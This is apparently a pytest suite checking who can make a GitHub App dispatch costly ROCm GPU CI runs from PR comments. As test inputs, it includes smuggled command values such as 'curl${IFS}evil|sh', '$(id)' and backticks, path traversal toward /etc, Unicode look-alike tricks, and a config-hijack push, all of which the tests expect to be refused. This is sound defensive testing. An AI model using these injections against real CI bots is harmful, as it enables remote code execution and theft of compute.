"""Who can make the App spend MI350 hours: a table of attempts, each with the exact dispatches,
replies and reactions the simulated GitHub saw. Zero unauthorised dispatches is the bar.

Every case starts from the same repository (tests/ondemand_support.py): a dispatch table on the
default branch for two ROCm suites, an open PR by `bob` that adds a registration to one of them,
and people with each repository role (maint: maintain, admin1: admin, writer: write, triager:
triage, reader: read).
"""

from __future__ import annotations

import datetime as dt
import threading
from dataclasses import dataclass
from typing import Callable

import pytest

from bot.store import ondemand as store
from tests.ondemand_support import CONFIG, SUITE, build_ondemand, next_second
from tests.patience import PATIENCE, wait_for
from tests.simulator.fixtures import github_sim  # noqa: F401

RUN = f"/run-rocm {SUITE}"
NO_REACTIONS: list[str] = []


@dataclass
class Case:
    name: str
    act: Callable  # (od) -> the comment dict whose reactions are asserted, or None
    dispatches: int = 0
    reactions: list[str] | None = None  # on the comment `act` returns; None: not asserted
    reply: str | None = None  # a substring of the last reply; "" asserts no reply at all
    replies: int | None = None  # exact number of App comments
    config: str = CONFIG
    app_permissions: dict | None = None
    check: Callable | None = None  # extra assertions (od) -> None


CASES: list[Case] = []


def case(name: str, **expect):
    def register(act):
        CASES.append(Case(name, act, **expect))
        return act
    return register


# -- permission --------------------------------------------------------------------------------------
for _user, _role in (("admin1", "admin"), ("maint", "maintain"), ("writer", "write")):
    case(f"permission-{_role}-dispatches", dispatches=1, reactions=["eyes", "rocket"], reply="Dispatched", replies=1)(
        lambda od, u=_user: od.comment(RUN, author=u)[0])
for _user, _role in (("triager", "triage"), ("reader", "read"), ("stranger", "outside-collaborator-public-repo")):
    case(f"permission-{_role}-waits", dispatches=0, reactions=["eyes"], reply="waiting for a maintainer", replies=1)(
        lambda od, u=_user: od.comment(RUN, author=u)[0])


@case("permission-none-waits", dispatches=0, reactions=["eyes"], reply="waiting for a maintainer", replies=1)
def _(od):
    od.sim.set_permission(od.repo, "nobody", "none")
    return od.comment(RUN, author="nobody")[0]


@case("permission-removed-since-an-earlier-command", dispatches=1, reactions=["eyes"], reply="waiting", replies=2)
def _(od):
    od.comment("/run-rocm nightly-stage-c-8-gpu-mi350", author="writer")
    od.sim.set_permission(od.repo, "writer", "read")  # asked again, never remembered
    return od.comment(RUN, author="writer")[0]


@case("configured-user-dispatches", dispatches=1, reactions=["eyes", "rocket"],
      config=CONFIG + "approvers:\n  users: [triager]\n")
def _(od):
    return od.comment(RUN, author="triager")[0]


@case("team-member-with-members-read-dispatches", dispatches=1, reactions=["eyes", "rocket"],
      config=CONFIG + "approvers:\n  teams: [rocm-maintainers]\n",
      app_permissions={"checks": "write", "contents": "read", "pull_requests": "write", "issues": "write",
                       "actions": "write", "metadata": "read", "members": "read"})
def _(od):
    od.sim.add_team_member("radixark", "rocm-maintainers", "reader")
    return od.comment(RUN, author="reader")[0]


@case("team-member-without-members-read-waits-and-is-told", dispatches=0, reactions=["eyes"],
      reply="members: read", config=CONFIG + "approvers:\n  teams: [rocm-maintainers]\n")
def _(od):
    od.sim.add_team_member("radixark", "rocm-maintainers", "reader")
    return od.comment(RUN, author="reader")[0]


@case("inactive-team-membership-waits", dispatches=0, reactions=["eyes"], reply="waiting",
      config=CONFIG + "approvers:\n  teams: [radixark/rocm-maintainers]\n",
      app_permissions={"checks": "write", "contents": "read", "pull_requests": "write", "issues": "write",
                       "actions": "write", "metadata": "read", "members": "read"})
def _(od):
    od.sim.add_team_member("radixark", "rocm-maintainers", "reader", state="pending")
    return od.comment(RUN, author="reader")[0]


# -- author type -------------------------------------------------------------------------------------
@case("bot-author-ignored", dispatches=0, reactions=NO_REACTIONS, reply="")
def _(od):
    return od.comment(RUN, author="dependabot[bot]", user_type="Bot")[0]


@case("another-app-ignored", dispatches=0, reactions=NO_REACTIONS, reply="")
def _(od):
    other = od.sim.create_app(name="Other App", owner="radixark")
    return od.comment(RUN, author="x", app=other)[0]


@case("this-app-ignored", dispatches=0, reactions=NO_REACTIONS, reply="")
def _(od):
    return od.comment(RUN, author="x", app=od.world.app)[0]


@case("bot-login-typed-as-user-ignored", dispatches=0, reactions=NO_REACTIONS, reply="")
def _(od):
    od.sim.set_permission(od.repo, "evil[bot]", "admin")
    return od.comment(RUN, author="evil[bot]")[0]


@case("organization-author-ignored", dispatches=0, reactions=NO_REACTIONS, reply="")
def _(od):
    return od.comment(RUN, author="radixark", user_type="Organization")[0]


# -- event shape -------------------------------------------------------------------------------------
@case("edited-comment-ignored", dispatches=0, reactions=NO_REACTIONS, reply="")
def _(od):
    c, _ = od.comment("looks good", author="maint")
    edited = od.sim.edit_comment(od.repo, c["id"], RUN)
    od.world.deliver(od.sim.webhook("issue_comment", "edited", app=od.world.app, repo=od.repo, pull=od.pr,
                                    comment=edited))
    od.world.drain()
    return c


@case("deleted-comment-ignored", dispatches=0, reactions=NO_REACTIONS, reply="")
def _(od):
    c, d = od.comment(RUN, author="maint", deliver=False)
    od.world.deliver(od.sim.webhook("issue_comment", "deleted", app=od.world.app, repo=od.repo, pull=od.pr, comment=c))
    od.world.drain()
    return c


@case("comment-on-an-issue-ignored", dispatches=0, reactions=NO_REACTIONS, replies=0)
def _(od):
    number = od.sim.create_issue(od.repo, "please run")
    c = od.sim.add_comment(od.repo, number, RUN, author="maint")
    od.world.deliver(od.sim.webhook("issue_comment", "created", app=od.world.app, repo=od.repo, comment=c))
    od.world.drain()
    return c


@case("closed-pr-ignored", dispatches=0, reactions=NO_REACTIONS, reply="")
def _(od):
    od.sim.close_pull_request(od.pr)
    return od.comment(RUN, author="maint")[0]


@case("merged-pr-ignored", dispatches=0, reactions=NO_REACTIONS, reply="")
def _(od):
    od.sim.close_pull_request(od.pr, merged=True)
    return od.comment(RUN, author="maint")[0]


@case("pr-closed-before-the-job-ran-ignored", dispatches=0, reactions=NO_REACTIONS, reply="")
def _(od):
    c, d = od.comment(RUN, author="maint", deliver=False)
    od.sim.close_pull_request(od.pr)
    od.world.deliver(d)
    od.world.drain()
    return c


@case("sender-not-the-author-ignored", dispatches=0, reactions=NO_REACTIONS, reply="")
def _(od):
    return od.comment(RUN, author="bob", sender="maint")[0]


@case("quoted-command-ignored", dispatches=0, reactions=NO_REACTIONS, reply="")
def _(od):
    return od.comment(f"> {RUN}\nwhy did this fail?", author="maint")[0]


@case("command-in-a-code-block-ignored", dispatches=0, reactions=NO_REACTIONS, reply="")
def _(od):
    return od.comment(f"Try:\n```\n{RUN}\n```", author="maint")[0]


for _name, _body in (("indented-code-block", f"Try:\n\n    {RUN}"), ("pre-block", f"<pre>\n{RUN}\n</pre>"),
                     ("html-comment", f"Will run later.\n\n<!--\n{RUN}\n-->"), ("tilde-fence", f"~~~\n{RUN}\n~~~")):
    # GitHub shows these as code or not at all: nobody reading the PR sees a command
    case(f"command-in-an-{_name}-ignored" if _name[0] in "aeiou" else f"command-in-a-{_name}-ignored",
         dispatches=0, reactions=NO_REACTIONS, reply="")(lambda od, b=_body: od.comment(b, author="maint")[0])


# -- arguments ---------------------------------------------------------------------------------------
def _refused(name: str, body: str, says: str, **extra):
    case(name, dispatches=0, reactions=["eyes", "confused"], reply=says, replies=1, **extra)(
        lambda od: od.comment(body, author="maint")[0])


_refused("unknown-suite", "/run-rocm nightly-stage-c-4-gpu-mi300", "is not a ROCm suite")
_refused("cuda-suite", "/run-rocm stage-c-4-gpu-h200", "is a cuda suite, not a ROCm one")
_refused("rocm-suite-not-in-the-dispatch-table", "/run-rocm stage-c-4-gpu-mi350", "maps no workflow")
_refused("path-traversal", f"{RUN} tests/e2e/../../etc/test_passwd.py", "`..` path segments are not allowed")
_refused("absolute-path", f"{RUN} /etc/test_passwd.py", "path segments are not allowed")
_refused("shell-metacharacters-in-suite", "/run-rocm nightly-stage-c-4-gpu-mi350;curl${IFS}evil|sh",
         "is not allowed in a suite name")
_refused("command-substitution-in-path", f"{RUN} tests/e2e/$(id)/test_x.py", "is not allowed in a path")
_refused("backticks-in-suite", "/run-rocm `id`", "is not allowed in a suite name")
_refused("unicode-look-alike-in-suite", "/run-rocm nightly-stage-c-4-gpu-m\u0456350", "U+0456")
_refused("unicode-dash-in-command-word", f"/run\u2011rocm {SUITE}", "U+2011")
_refused("fullwidth-slash-command", f"\uff0frun-rocm {SUITE}", "U+FF0F")
_refused("non-breaking-space", f"/run-rocm\u00a0{SUITE}", "plain ASCII")
_refused("zero-width-space-in-command-word", f"/run\u200b-rocm {SUITE}", "U+200B ZERO WIDTH SPACE")
_refused("byte-order-mark-before-command", f"\ufeff{RUN}", "U+FEFF")
_refused("right-to-left-override-in-suite", f"/run-rocm \u202e{SUITE}", "U+202E RIGHT-TO-LEFT OVERRIDE")
_refused("files-on-the-line-after-the-suite", f"{RUN}\ntests/e2e/test_new.py", "`/run-rocm <suite> [<test-file> ...]`")
_refused("html-comment-inside-the-command-line", f"{RUN} <!-- tests/e2e/test_new.py -->", "holds HTML")
for _name, _char in (("escape", "\x1b"), ("right-to-left-override", "\u202e")):
    # a reason is echoed back in replies and check runs: one that could recolour a terminal or
    # reorder the text around it is refused, and never shown raw
    _refused(f"deny-reason-with-{_name}", f"/deny-rocm costly{_char}[31m today", f"U+{ord(_char):04X}")
_refused("suite-name-starting-with-a-dash", "/run-rocm --help", "is not a suite name")
_refused("helper-module-is-not-a-test-file", f"{RUN} tests/e2e/conftest.py", "is not a test file")
_refused("two-commands-in-one-comment", f"{RUN}\n/approve-rocm", "one command per comment")
_refused("malformed-command-word", f"/run-rocmm {SUITE}", "is not a command word")
_refused("file-outside-the-test-roots", f"{RUN} bench/test_x.py", "is not under a test root")
_refused("unregistered-file", f"{RUN} tests/e2e/megatron/test_qwen3_4B_ppo.py", "has no ROCm registration in")
_refused("file-that-does-not-exist", f"{RUN} tests/e2e/test_nope.py", "does not exist at")
_refused("disabled-registration", f"{RUN} tests/e2e/fsdp/test_disabled_rocm.py", "is disabled")
_refused("too-many-files", f"{RUN} tests/e2e/test_new.py tests/e2e/test_a.py tests/e2e/test_b.py tests/e2e/test_c.py",
         "at most 3 per command")
_refused("missing-suite", "/run-rocm", "needs a suite name")


@case("suite-only-in-the-prs-own-inventory-and-config", dispatches=0, reactions=["eyes", "confused"],
      reply="maps no workflow")
def _(od):
    from tests.fixtures.miles import RUN_SUITE
    od.sim.push(od.repo, "feature", {
        "tests/ci/run_suite.py": RUN_SUITE.replace('"stage-c-4-gpu-mi350",', '"stage-c-4-gpu-mi350",\n        "pwn-mi350",'),
        ".github/ci-registrar.yml": "dispatch:\n  pwn-mi350:\n    workflow: evil.yml\n    ref: evil\n"
                                    "budgets:\n  daily_gpu_hours: 100000\n",
        "tests/e2e/test_new.py": 'from tests.ci.ci_register import register_rocm_ci\n\n'
                                 'register_rocm_ci(est_time=9, suite="pwn-mi350", labels=["short"])\n'})
    next_second()  # the maintainer comments after the push
    return od.comment("/run-rocm pwn-mi350", author="maint")[0]


@case("invalid-configuration-on-the-default-branch", dispatches=0, reactions=["eyes", "confused"],
      reply="configuration on the default branch", config="dispatch: [1, 2]\n")
def _(od):
    return od.comment(RUN, author="maint")[0]


# -- sequences ---------------------------------------------------------------------------------------
def _request_check(od):
    [check] = od.check_runs("MI350 run request")
    return check


@case("push-then-approve-by-comment", dispatches=0, reply="no pending on-demand request")
def _(od):
    od.comment(RUN, author="bob")
    od.push({"tests/e2e/test_new.py": "x = 2\n"})
    return od.comment("/approve-rocm", author="maint")[0]


@case("push-then-approve-by-button", dispatches=0)
def _(od):
    od.comment(RUN, author="bob")
    check = _request_check(od)
    od.push({"tests/e2e/test_new.py": "x = 2\n"})
    od.click(check["id"], sender="maint")
    assert _request_check(od)["output"]["title"] == "Stale"


@case("approval-by-a-non-maintainer", dispatches=0, reactions=["eyes", "confused"], reply="only maintainers can approve")
def _(od):
    od.comment(RUN, author="bob")
    return od.comment("/approve-rocm", author="triager")[0]


@case("denial-by-a-non-maintainer", dispatches=0, reply="only maintainers can refuse")
def _(od):
    od.comment(RUN, author="bob")
    c = od.comment("/deny-rocm no", author="reader")[0]
    [request] = store.requests_for_pull(od.world.settings.database_url, od.repo.full_name, od.pr.number)
    assert request.status == "pending"
    return c


@case("button-click-by-a-non-maintainer", dispatches=0, reply="only maintainers can approve this run")
def _(od):
    od.comment(RUN, author="bob")
    od.click(_request_check(od)["id"], sender="triager")


@case("button-click-from-another-apps-check-run-ignored", dispatches=0)
def _(od):
    od.comment(RUN, author="bob")
    import json

    from tests.simulator import sign

    d = od.sim.webhook("check_run", "requested_action", app=od.world.app, repo=od.repo,
                       check_run=_request_check(od)["id"], identifier="approve-run", sender="maint")
    d.payload["check_run"]["app"]["id"] = 999999  # another App's run that happens to share the id
    d.body = json.dumps(d.payload).encode()
    d.headers["X-Hub-Signature-256"] = sign(d.body, od.world.app.webhook_secret)
    od.world.deliver(d)
    od.world.drain()


@case("approval-of-an-expired-request", dispatches=0, reply="expired")
def _(od):
    od.comment(RUN, author="bob")
    [request] = store.requests_for_pull(od.world.settings.database_url, od.repo.full_name, od.pr.number)
    store.update_request(od.world.settings.database_url, request.id,
                         created_at=store.now() - dt.timedelta(days=8))
    return od.comment("/approve-rocm", author="maint")[0]


@case("self-approval-under-two-person", dispatches=0, reply="another maintainer must approve",
      config=CONFIG + "approvers:\n  two_person: true\n")
def _(od):
    od.comment(RUN, author="maint")
    return od.comment("/approve-rocm", author="maint")[0]


@case("second-maintainer-approves-under-two-person", dispatches=1,
      config=CONFIG + "approvers:\n  two_person: true\n")
def _(od):
    od.comment(RUN, author="maint")
    od.click(_request_check(od)["id"], sender="maint")  # the requester's own click
    assert od.dispatches() == []
    od.comment("/approve-rocm", author="maint2")


@case("budget-exhausted", dispatches=0, reactions=["eyes", "confused"], reply="daily GPU-hours",
      config=CONFIG.replace("daily_gpu_hours: 64", "daily_gpu_hours: 3"))
def _(od):
    return od.comment(RUN, author="maint")[0]


@case("budget-exhausted-at-approval", dispatches=1, reply="daily GPU-hours",
      config=CONFIG.replace("daily_gpu_hours: 64", "daily_gpu_hours: 10"))
def _(od):
    od.comment(RUN, author="bob")  # 3 files, 1800 + 1800 + 2875 s x 4 GPUs: 7.20 h
    od.comment("/run-rocm nightly-stage-c-8-gpu-mi350", author="maint")  # 2 shards x 1800 s x 8 GPUs: 8.00 h
    od.comment(RUN, author="triager")
    return od.comment("/approve-rocm", author="maint")[0]


@case("run-already-in-flight", dispatches=1, reactions=["eyes", "confused"], reply="already running for this PR",
      replies=2)
def _(od):
    od.comment(RUN, author="maint")
    return od.comment(RUN, author="admin1")[0]


@case("redelivered-webhook", dispatches=1, reactions=["eyes", "rocket"], replies=1)
def _(od):
    c, d = od.comment(RUN, author="maint")
    assert od.world.client.post("/webhook", data=d.body, headers=d.headers).json["status"] == "duplicate"
    od.world.drain()
    return c


@case("same-comment-under-fresh-delivery-ids", dispatches=1, reactions=["eyes", "rocket"], replies=1)
def _(od):
    c, d = od.comment(RUN, author="maint")
    for _ in range(3):
        again = od.sim.webhook("issue_comment", "created", app=od.world.app, repo=od.repo, pull=od.pr, comment=c)
        od.world.deliver(again)
    od.world.drain()
    return c


@case("two-workers-on-one-delivery", dispatches=1, reactions=["eyes", "rocket"], replies=1)
def _(od):
    c, d = od.comment(RUN, author="maint", deliver=False)
    od.world.deliver(d)
    task = od.world.queue.dequeue()
    workers = [threading.Thread(target=od.world.queue.execute, args=(task,)) for _ in range(2)]
    for w in workers:
        w.start()
    for w in workers:
        w.join(PATIENCE)
    od.world.drain()
    return c


@case("dispatch-404-is-answered-and-retryable", dispatches=1, reply="Dispatched")
def _(od):
    od.repo.workflows.clear()
    c = od.comment(RUN, author="maint")[0]
    assert "404" in od.replies()[-1] and od.dispatches() == []
    assert od.sim.reactions(od.repo, c["id"]) == ["eyes", "confused"]
    od.repo.add_workflow("rocm-on-demand.yml", dispatchable=True)
    od.comment("/approve-rocm", author="maint")


@case("dispatch-422-is-answered", dispatches=0, reactions=["eyes", "confused"], reply="422")
def _(od):
    od.repo.workflows.clear()
    od.repo.add_workflow("rocm-on-demand.yml", dispatchable=False)
    return od.comment(RUN, author="maint")[0]


@case("fork-pr-dispatches-on-the-trusted-ref", dispatches=1)
def _(od):
    fork = od.sim.fork(od.repo, "mallory/miles")
    od.sim.push(fork, "evil", {"tests/e2e/test_new.py": 'from tests.ci.ci_register import register_rocm_ci\n\n'
                               f'register_rocm_ci(est_time=30, suite="{SUITE}", labels=["short"])\n'})
    next_second()
    od.world.pr = od.sim.open_pull_request(od.repo, "evil", "main", author="mallory", head_repo=fork)
    od.comment(RUN, author="mallory")
    assert od.dispatches() == []
    od.comment("/approve-rocm", author="maint")
    [d] = od.dispatches()
    assert d["ref"] == "main" and d["inputs"]["head_sha"] == od.pr.head_sha


@case("status-by-anyone-dispatches-nothing", dispatches=0, reactions=["eyes"], reply="On-demand MI350 runs")
def _(od):
    return od.comment("/rocm-status", author="reader")[0]


# == issue 19: the budget, the head the maintainer saw, superseded heads, things that vanish ========
def _registered(est: str, suite: str = SUITE) -> str:
    return ('from tests.ci.ci_register import register_rocm_ci\n\n'
            f'register_rocm_ci(est_time={est}, suite="{suite}", labels=["short"])\n')


NEW = "tests/e2e/test_new.py"


# -- a charge bounds what the run may use: no est_time makes it cheaper -------------------------------
for _name, _est, _says, _hours in (
        ("negative-est-time-is-charged-the-per-file-timeout", "-100000", "charged 1800 s, the runner's per-file timeout",
         "2.00 GPU-hours"),
        ("zero-est-time-is-charged-the-per-file-timeout", "0", "charged 1800 s, the runner's per-file timeout",
         "2.00 GPU-hours"),
        ("tiny-est-time-is-charged-the-per-file-timeout", "1e-9", "charged 1800 s, the runner's per-file timeout",
         "2.00 GPU-hours"),
        # the consumer's job (sglang's nightly) that runs the suite has timeout-minutes: 180
        ("nan-est-time-is-charged-the-jobs-limit", 'float("nan")', "charged 10800 s, the GPU job's timeout (180 min",
         "12.00 GPU-hours"),
        ("absurd-est-time-is-charged-the-jobs-limit", "1" + "0" * 400, "charged 10800 s, the GPU job's timeout (180 min",
         "12.00 GPU-hours")):
    @case(_name, dispatches=1, reply=_says)
    def _(od, est=_est, hours=_hours):  # noqa: F811 - each registered in the table
        od.push({NEW: _registered(est)})
        c = od.comment(f"{RUN} {NEW}", author="maint")[0]
        reply = od.replies()[-1]
        assert hours in reply and "-1" not in reply.split("GPU-hours")[0][-8:], reply
        [request] = [r for r in store.requests_for_pull(od.world.settings.database_url, od.repo.full_name,
                                                        od.pr.number) if r.status == "dispatched"]
        assert request.cost_gpu_hours == float(hours.split()[0])
        return c


for _value in (".nan", ".inf"):
    @case(f"non-finite-budget-{_value[1:]}-dispatches-nothing", dispatches=0, reactions=["eyes", "confused"],
          reply="budgets.daily_gpu_hours must be a finite number",
          config=CONFIG.replace("daily_gpu_hours: 64", f"daily_gpu_hours: {_value}"))
    def _(od):  # noqa: F811 - issue 23: a NaN budget compares false with every cost and stopped nothing
        return od.comment("/run-rocm nightly-stage-c-8-gpu-mi350", author="maint")[0]


@case("a-stored-p90-does-not-lower-the-charge", dispatches=1, reply="charged 1800 s")
def _(od):
    from bot.durations.ingest import ingest_job_log

    od.push({NEW: _registered("-100000")})
    for run in (1, 2, 3):
        assert ingest_job_log(od.world.settings.database_url, f"2026-11-2{run}T04:05:06.0Z [1/1] {NEW}  PASS  "
                              "elapsed=400s\n", repository=od.repo.full_name, run_id=run, job_id=run,
                              runner_labels=["self-hosted", "mi350"], backend="rocm", suite=SUITE,
                              hardware="MI355X").inserted == 1
    c = od.comment(f"{RUN} {NEW}", author="maint")[0]
    assert "2.00 GPU-hours" in od.replies()[-1]  # 1800 s x 4 GPUs: what the job lets the file run
    return c


@case("five-files-with-est-time-1-do-not-fit-one-gpu-hour", dispatches=0, reply="not dispatched",
      config=CONFIG.replace("daily_gpu_hours: 64", "daily_gpu_hours: 1"))
def _(od):
    """Issue 23's attack: five files registered with est_time=1, one command each, under a
    1 GPU-hour budget. Each may run 1800 s on 4 GPUs (2 GPU-hours): none is dispatched."""
    files = {f"tests/e2e/test_cheap_{i}.py": _registered("1") for i in range(5)}
    od.push(files)
    c = None
    for name in files:
        c = od.comment(f"{RUN} {name}", author="maint")[0]
        assert "needs about 2.00 GPU-hours" in od.replies()[-1]
        assert f"`{name}`: est_time=1, charged 1800 s" in od.replies()[-1]
    assert store.gpu_hours_since(od.world.settings.database_url, od.repo.full_name,
                                 store.now() - dt.timedelta(hours=24)) == 0
    return c


@case("non-positive-est-time-the-runner-rejects-is-refused", dispatches=0, reactions=["eyes", "confused"],
      reply="which the runner rejects", config=CONFIG + "validity:\n  est_time_positive: true\n")
def _(od):
    od.push({NEW: _registered("-100000")})
    return od.comment(f"{RUN} {NEW}", author="maint")[0]


# -- commands act on the head their author saw -------------------------------------------------------
@case("run-written-before-a-push-dispatches-nothing", dispatches=0, reactions=["eyes", "confused"],
      reply="moved to", replies=1)
def _(od):
    c, d = od.comment(RUN, author="maint", deliver=False)  # written while the head is A
    next_second()
    od.push({NEW: _registered("90")})  # B, before the job runs (a backlog)
    od.world.deliver(d)
    od.world.drain()
    assert od.pr.head_sha[:7] in od.replies()[-1]
    return c


@case("run-written-before-a-push-whose-event-was-missed-dispatches-nothing", dispatches=0,
      reactions=["eyes", "confused"], reply="cannot confirm", replies=1)
def _(od):
    c, d = od.comment(RUN, author="maint", deliver=False)
    next_second()
    od.push({NEW: _registered("90")}, deliver=False)  # GitHub never delivered the synchronize
    od.world.deliver(d)
    od.world.drain()
    return c


@case("run-written-after-a-push-dispatches-the-new-head", dispatches=1, reactions=["eyes", "rocket"],
      reply="Dispatched")
def _(od):
    od.push({NEW: _registered("90")}, deliver=False)
    return od.comment(RUN, author="maint")[0]


@case("approval-written-before-a-push-approves-nothing-made-after-it", dispatches=0, reply="moved to")
def _(od):
    od.comment(RUN, author="bob")  # a request at A
    a, d = od.comment("/approve-rocm", author="maint", deliver=False)  # written at A
    next_second()
    od.push({NEW: _registered("90")})  # B: A's request is stale
    od.comment(RUN, author="bob")  # a request at B, which the maintainer never saw
    od.world.deliver(d)
    od.world.drain()
    pending = store.requests_for_pull(od.world.settings.database_url, od.repo.full_name, od.pr.number, ["pending"])
    assert [r.head_sha for r in pending] == [od.pr.head_sha]  # B's request still waits
    return a


@case("approval-covers-only-requests-written-before-it", dispatches=0, reply="no pending on-demand request")
def _(od):
    a, d = od.comment("/approve-rocm", author="maint", deliver=False)
    next_second()
    od.comment(RUN, author="bob")  # same head, but after the approval was written
    od.world.deliver(d)
    od.world.drain()
    return a


# -- things that vanished ------------------------------------------------------------------------------
@case("requester-deletes-the-command-then-a-maintainer-approves", dispatches=1, reply="Dispatched")
def _(od):
    c, _ = od.comment(RUN, author="bob")
    od.sim.delete_comment(od.repo, c["id"])
    a, d = od.comment("/approve-rocm", author="maint")
    assert od.sim.reactions(od.repo, a["id"]) == ["eyes", "rocket"]
    actions = [e.action for e in store.audit_entries(od.world.settings.database_url)]
    assert "approval" in actions and "dispatch" in actions
    from bot.store.service import get_delivery

    assert get_delivery(od.world.settings.database_url, d.delivery_id).status == "done"
    return a


@case("approver-deletes-the-approval-before-the-job-runs", dispatches=0, replies=1)
def _(od):
    """Issue 25 item 5: the comment is re-read before acting; a deleted approval approves nothing."""
    od.comment(RUN, author="bob")
    a, d = od.comment("/approve-rocm", author="maint", deliver=False)
    od.sim.delete_comment(od.repo, a["id"])  # the eyes: 404
    od.world.deliver(d)
    od.world.drain()
    actions = [e.action for e in store.audit_entries(od.world.settings.database_url)]
    assert "dispatch" not in actions and "approval" not in actions


@case("a-command-deleted-before-the-job-runs-dispatches-nothing", dispatches=0, replies=0)
def _(od):
    c, d = od.comment(RUN, author="maint", deliver=False)
    od.sim.delete_comment(od.repo, c["id"])
    od.world.deliver(d)
    od.world.drain()
    assert store.requests_for_pull(od.world.settings.database_url, od.repo.full_name, od.pr.number) == []


@case("a-command-edited-away-before-the-job-runs-dispatches-nothing", dispatches=0, replies=0)
def _(od):
    c, d = od.comment(RUN, author="maint", deliver=False)
    od.sim.edit_comment(od.repo, c["id"], f"never mind\n\n> {RUN}")
    od.world.deliver(d)
    od.world.drain()
    return c


@case("a-command-only-in-an-images-alt-text-dispatches-nothing", dispatches=0, reactions=NO_REACTIONS, replies=0)
def _(od):
    return od.comment(f"![{RUN}](https://example.com/run.png)", author="maint")[0]


@case("a-command-only-in-details-dispatches-nothing", dispatches=0, reactions=NO_REACTIONS, replies=0)
def _(od):
    return od.comment(f"<details>\n\n{RUN}\n\n</details>", author="maint")[0]


@case("an-entity-slash-gets-the-look-alike-reply", dispatches=0, reactions=["eyes", "confused"],
      reply="HTML entity `&#47;`")
def _(od):
    return od.comment(f"&#47;run-rocm {SUITE}", author="maint")[0]


@case("pull-request-gone-before-the-job-ran", dispatches=0, reactions=NO_REACTIONS, replies=0)
def _(od):
    c, d = od.comment(RUN, author="maint", deliver=False)
    key = (od.repo.full_name, od.pr.number)
    with od.sim.lock:  # GitHub answers 404 for the pull request while the job runs
        pr = od.sim.pulls.pop(key)
    od.world.deliver(d)
    od.world.drain()
    od.sim.pulls[key] = pr  # back, for the table's own look at the PR's comments
    from bot.store.service import get_delivery

    url = od.world.settings.database_url
    assert get_delivery(url, d.delivery_id).status == "done"
    assert [e.action for e in store.audit_entries(url)] == ["vanished"]
    return c


@case("a-deleted-run-frees-its-slot", dispatches=2, reply="Dispatched")
def _(od):
    od.comment(RUN, author="maint")
    [first] = od.dispatches()
    od.sim.delete_run(first["run_id"])
    od.comment(RUN, author="admin1")
    assert "dispatch_failed" in [e.action for e in store.audit_entries(od.world.settings.database_url)]


@pytest.fixture()
def env(monkeypatch):
    monkeypatch.setenv("CI_REGISTRAR_HTTP_BACKOFF_S", "0.01")
    monkeypatch.setenv("CI_REGISTRAR_JOB_BACKOFF_S", "0.01")


def test_the_table_has_the_cases_the_bar_asks_for():
    assert len(CASES) >= 40
    assert len({c.name for c in CASES}) == len(CASES)


@pytest.mark.parametrize("c", CASES, ids=[c.name for c in CASES])
def test_command(github_sim, tmp_path, env, c: Case):
    od = build_ondemand(github_sim, tmp_path, config=c.config, app_permissions=c.app_permissions)
    comment = c.act(od)
    dispatched = od.dispatches()
    assert len(dispatched) == c.dispatches, [d["inputs"] for d in dispatched]
    for d in dispatched:
        # whatever dispatched, it is the trusted workflow on the trusted branch, for the PR's head
        assert d["workflow"] == "rocm-on-demand.yml" and d["ref"] == "main"
        assert d["inputs"]["head_sha"] in {od.pr.head_sha} and d["inputs"]["suite"] in (SUITE, "nightly-stage-c-8-gpu-mi350")
    if c.reactions is not None:
        assert comment is not None
        assert od.sim.reactions(od.repo, comment["id"]) == c.reactions
    replies = od.replies()
    if c.reply == "":
        assert replies == []
    elif c.reply is not None:
        assert replies and c.reply in replies[-1], replies
    if c.replies is not None:
        assert len(replies) == c.replies, replies
    for body in replies:
        # nothing a commenter wrote becomes a mention of a team or a raw link
        assert "@radixark/" not in body.replace("`@radixark/", "")
        # nor a terminal escape, a deletion or a direction override shown raw
        assert not any(ch in body for ch in "\x1b\x7f\u202e\u200b\ufeff"), body
    if c.check is not None:
        c.check(od)


# -- a push stops the runs of older heads ---------------------------------------------------------------
def _run_then_push(od):
    od.comment(RUN, author="maint")
    [first] = od.dispatches()
    old = od.pr.head_sha
    new = od.push({NEW: _registered("90")})
    return first, old, new


def test_a_push_cancels_the_older_heads_run_and_frees_the_slot(github_sim, tmp_path, env):
    od = build_ondemand(github_sim, tmp_path)
    first, old, new = _run_then_push(od)
    [run] = [r for r in od.sim.workflow_runs(od.repo) if r["id"] == first["run_id"]]
    assert run["status"] == "completed" and run["conclusion"] == "cancelled"
    [check] = od.check_runs("MI350 · ")
    assert check["head_sha"] == old and check["status"] == "completed" and check["conclusion"] == "cancelled"
    assert check["output"]["title"] == f"Superseded by {new[:7]}" and f"superseded by {new}" in check["output"]["summary"]
    url = od.world.settings.database_url
    [request] = store.requests_for_pull(url, od.repo.full_name, od.pr.number)
    assert request.status == "superseded" and request.reason == f"superseded by {new}"
    assert "superseded" in [e.action for e in store.audit_entries(url)]
    c = od.comment(RUN, author="maint")[0]  # the new head's slot is free at once
    assert [d["inputs"]["head_sha"] for d in od.dispatches()] == [old, new]
    assert od.sim.reactions(od.repo, c["id"]) == ["eyes", "rocket"]
    # the cancelled run's completion event changes nothing
    od.world.deliver(od.sim.webhook("workflow_run", "completed", app=od.world.app, repo=od.repo, run=first["run_id"]))
    od.world.drain()
    assert store.get_request(url, request.id).status == "superseded"
    assert od.sim.violations == []


def test_a_push_while_github_starts_the_run_cancels_that_run(github_sim, tmp_path, env):
    """The push lands between the claim and GitHub's answer to the dispatch: the run GitHub then
    names is cancelled too, and the maintainer is told."""
    od = build_ondemand(github_sim, tmp_path)
    # GitHub's answer to the dispatch is held until the push has been handled (released below).
    answer = github_sim.inject_fault("POST", r"/dispatches$", "slow", delay=PATIENCE)
    c, d = od.comment(RUN, author="maint", deliver=False)
    od.world.deliver(d)
    task = od.world.queue.dequeue()
    worker = threading.Thread(target=od.world.queue.execute, args=(task,))
    worker.start()
    try:
        assert wait_for(od.dispatches)  # GitHub started the run; its answer waits
        [first] = od.dispatches()
        new = od.push({NEW: _registered("90")})
        assert not answer.released.is_set() and worker.is_alive()  # the push was handled first
    finally:
        answer.release()
        worker.join(PATIENCE)
    assert not worker.is_alive()
    [run] = [r for r in od.sim.workflow_runs(od.repo) if r["id"] == first["run_id"]]
    assert run["conclusion"] == "cancelled"
    [request] = store.requests_for_pull(od.world.settings.database_url, od.repo.full_name, od.pr.number)
    assert request.status == "superseded" and request.workflow_run_id == first["run_id"]
    assert any(f"superseded by {new}" in body for body in od.replies())
    assert od.check_runs("MI350 · ") == []  # nothing claims the old head is running


def test_a_redelivered_push_cancels_nothing_twice(github_sim, tmp_path, env):
    od = build_ondemand(github_sim, tmp_path)
    first, old, new = _run_then_push(od)
